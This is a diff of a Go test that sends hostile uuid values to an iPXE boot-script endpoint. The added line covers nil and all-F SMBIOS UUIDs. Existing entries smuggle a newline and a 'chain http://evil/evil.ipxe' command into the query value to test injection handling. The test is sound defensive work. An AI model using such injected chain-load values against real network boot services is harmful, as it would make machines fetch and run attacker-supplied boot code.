@@ -127,6 +127,7 @@ func TestHostileQueryValues(t *testing.T) {
 		"x\nchain http://evil/evil.ipxe",
 		"8a3b5c1e-0f2d-4e6a-9b7c-1d2e3f4a5b6c\nchain http://evil/",
 		"${uuid}", "8a3b5c1e 0f2d 4e6a 9b7c 1d2e3f4a5b6c", "8a3b5c1e-0f2d-4e6a-9b7c-1d2e3f4a5b6",
+		"00000000-0000-0000-0000-000000000000", "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", // SMBIOS "not set"
 	} {
 		path := "/ipxe?" + url.Values{"mac": {macOnce.Dashed()}, "uuid": {uuid}, "arch": {"x86_64"}}.Encode()
 		code, body := e.getFrom(t, hostOf(macOnce), path)
